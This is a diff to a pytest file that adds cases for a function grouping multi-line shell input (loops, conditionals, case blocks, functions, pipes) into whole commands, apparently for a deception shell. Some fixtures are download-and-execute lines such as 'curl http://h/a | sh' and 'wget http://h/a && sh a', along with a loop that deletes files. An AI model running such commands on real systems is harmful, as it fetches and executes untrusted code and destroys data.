@@ -33,6 +33,37 @@ from decnet.shell.script import MAX_CHARS, MAX_LINES, Joined, joined
         (["cat <<EOF", "never closed"], []),
         (["echo \\'", "id"], []),
         (["", "'", "'"], [(1, 2, "'\n'")]),
+        (["for i in 1 2", "do", "wget http://h/$i", "done", "id"], [(0, 3, "for i in 1 2\ndo\nwget http://h/$i\ndone")]),
+        (["for i in 1; do echo $i; done", "id"], []),
+        (["while read l; do", "  if [ -f $l ]; then", "    rm $l", "  fi", "done < /x"], [(0, 4, "while read l; do\n  if [ -f $l ]; then\n    rm $l\n  fi\ndone < /x")]),
+        (["if true; then id; fi", "w"], []),
+        (["if [ -x /a ]", "then /a", "else", "/b", "fi; w", "id"], [(0, 4, "if [ -x /a ]\nthen /a\nelse\n/b\nfi; w")]),
+        (["until id; do", "sleep 1;done"], [(0, 1, "until id; do\nsleep 1;done")]),
+        (["case $a in", "x) id;;", "(y) w;;", "esac"], [(0, 3, "case $a in\nx) id;;\n(y) w;;\nesac")]),
+        (["case $a in x) id;; esac", "w"], []),
+        (["{", "id", "}"], [(0, 2, "{\nid\n}")]),
+        (["echo {a,b} }", "id"], []),
+        (["f() {", "id", "}", "f"], [(0, 2, "f() {\nid\n}")]),
+        (["f() { id; }", "f"], []),
+        (["(cd /tmp", "id)"], [(0, 1, "(cd /tmp\nid)")]),
+        (["echo $(cat /a", "/b)", "w"], [(0, 1, "echo $(cat /a\n/b)")]),
+        (["echo $((1+2)) $(id) `w` ${a} $#", "id"], []),
+        (["a=`cat", "/x`"], [(0, 1, "a=`cat\n/x`")]),
+        (["wget http://h/a &&", "sh a"], [(0, 1, "wget http://h/a &&\nsh a")]),
+        (["curl http://h/a |", "", "sh"], [(0, 2, "curl http://h/a |\n\nsh")]),
+        (["a ||", "b |", "c"], [(0, 2, "a ||\nb |\nc")]),
+        (["sleep 9 &", "id;", "w"], []),
+        (["echo if for while {", "id", "fi done }"], []),
+        (["echo 'if'; 'for'", "fi", "done"], []),
+        (["if", "id", "w"], []),
+        (["done", "fi", "}", ")", "id"], []),
+        (["wget http://h/x?a=1&b=(2)", "id"], []),
+        (["if true; then cat <<E", "fi", "E", "fi", "id"], [(0, 3, "if true; then cat <<E\nfi\nE\nfi")]),
+        (["cat <<E\nit's\nE", "id"], []),
+        (["for i in a; do\necho $i\ndone", "id"], []),
+        (["echo done | while read x", "do id", "done"], [(0, 2, "echo done | while read x\ndo id\ndone")]),
+        (["I'm here for you", "if you", "are"], []),
+        (["a |"], []),
     ],
 )  # fmt: skip
 def test_what_belongs_together(lines: list[str], wanted: list[tuple[int, int, str]]) -> None:
@@ -46,7 +77,7 @@ def test_a_command_is_joined_up_to_the_limit_of_lines_and_of_text() -> None:
         assert len(joined(["'" + "x" * (size - 1), "'"])) == found
 
 
-@given(st.lists(st.text("'\"\\<-EOF #;\n\tab$", max_size=8), max_size=12))
+@given(st.lists(st.text("'\"\\<-EOF #;\n\tab$(){}`&|", max_size=8), max_size=12))
 def test_never_raises_and_groups_stand_in_order_without_overlap(lines: list[str]) -> None:
     found = joined(lines)
     assert all(one.first < one.last < len(lines) for one in found)
